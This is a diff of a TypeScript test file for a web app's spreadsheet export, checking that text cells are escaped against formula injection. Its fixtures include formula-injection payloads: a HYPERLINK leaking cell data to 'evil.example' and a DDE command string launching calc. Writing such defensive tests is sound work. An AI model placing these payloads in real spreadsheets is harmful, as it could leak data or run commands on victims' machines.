@@ -1,5 +1,6 @@
+import * as xlsx from '@e965/xlsx';
 import { describe, expect, it, vi } from 'vitest';
-import { buildSheetCells, collectRows, escapeFormulaText, nameExportFile } from './export-rows.ts';
+import { buildExportBook, buildSheetCells, collectRows, nameExportFile } from './export-rows.ts';
 
 /** A list of `total` numbered rows served in pages as the server's list calls do. */
 function serveRows(total: number) {
@@ -72,21 +73,7 @@ describe('buildSheetCells', () => {
   });
 });
 
-describe('escapeFormulaText', () => {
-  it.each([
-    ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
-    ['+1 555', "'+1 555"],
-    ['-2+3', "'-2+3"],
-    ['@SUM(A1)', "'@SUM(A1)"],
-    ['\tcmd', "'\tcmd"],
-    ['BF20261125-000001', 'BF20261125-000001'],
-    ['客户 = 张三', '客户 = 张三'],
-    ['—', '—'],
-    ['', ''],
-  ])('writes %j as %j', (text, cell) => {
-    expect(escapeFormulaText(text)).toBe(cell);
-  });
-
+describe('formula text in exports (docs/api.md "Formula cells")', () => {
   it('escapes text cells of rows, never numbers', () => {
     const columns = [
       { title: 'Note', value: (row: { note: string; amount: number }) => row.note },
@@ -96,6 +83,64 @@ describe('escapeFormulaText', () => {
       ['Note', 'Amount'],
       ["'=1+1", -30],
     ]);
+  });
+});
+
+describe('buildExportBook', () => {
+  type Row = { orderNo: string; remark: string; contact: string; amount: number };
+  const columns = [
+    { title: 'Order No.', value: (row: Row) => row.orderNo },
+    { title: '=Remark', value: (row: Row) => row.remark },
+    { title: 'Contact', value: (row: Row) => row.contact },
+    { title: 'Amount', value: (row: Row) => row.amount },
+  ];
+
+  it('writes an xlsx whose text cells read back neutralised (apostrophe first), numbers as numbers', () => {
+    const rows: Row[] = [
+      {
+        orderNo: 'BF20261125-000001',
+        remark: '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+        contact: '+86 138 0013 8000',
+        amount: -30,
+      },
+      { orderNo: 'BF20261125-000002', remark: "@SUM(1+9)*cmd|' /C calc'!A0", contact: '\t=1+1', amount: 12.5 },
+      { orderNo: 'BF20261125-000003', remark: '客户 = 张三', contact: '-', amount: 0 },
+    ];
+    const bytes = xlsx.write(buildExportBook(xlsx, 'Orders with a very long list name, cut', columns, rows), {
+      type: 'array',
+      bookType: 'xlsx',
+    }) as ArrayBuffer;
+    const book = xlsx.read(new Uint8Array(bytes), { type: 'array', cellFormula: true });
+    expect(book.SheetNames).toEqual(['Orders with a very long list na']);
+    const sheet = book.Sheets[book.SheetNames[0] as string] as xlsx.WorkSheet;
+    expect(xlsx.utils.sheet_to_json(sheet, { header: 1, raw: true })).toEqual([
+      ['Order No.', "'=Remark", 'Contact', 'Amount'],
+      ['BF20261125-000001', '\'=HYPERLINK("http://evil.example/?x="&A2,"click")', "'+86 138 0013 8000", -30],
+      ['BF20261125-000002', "'@SUM(1+9)*cmd|' /C calc'!A0", "'\t=1+1", 12.5],
+      ['BF20261125-000003', '客户 = 张三', "'-", 0],
+    ]);
+    // No cell of the file is a formula: every one is a plain text or number.
+    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
+    expect(
+      cells.every(([, cell]) => !(cell as xlsx.CellObject).f && ['s', 'n'].includes((cell as xlsx.CellObject).t)),
+    ).toBe(true);
+  });
+
+  it('is the only spreadsheet writer of the web app: every back-office export goes through ExportButton', () => {
+    // Every source file of the app as text (tests left out).
+    const sources = import.meta.glob<string>(['../../**/*.{ts,tsx}', '!../../**/*.test.{ts,tsx}'], {
+      query: '?raw',
+      import: 'default',
+      eager: true,
+    });
+    // Keys are relative to this folder: './export-button.tsx', '../../features/…'.
+    const named = Object.entries(sources);
+    const writers = named
+      .filter(([, text]) => /@e965\/xlsx|aoa_to_sheet|json_to_sheet|writeFile|text\/csv/.test(text))
+      .map(([file]) => file);
+    const exporters = named.filter(([, text]) => /<ExportButton\b/.test(text)).map(([file]) => file);
+    expect(writers.sort()).toEqual(['./export-button.tsx', './export-rows.ts']);
+    expect(exporters.length).toBeGreaterThanOrEqual(11); // orders, customers, statements, ledger, rebates, stock…
   });
 });
 
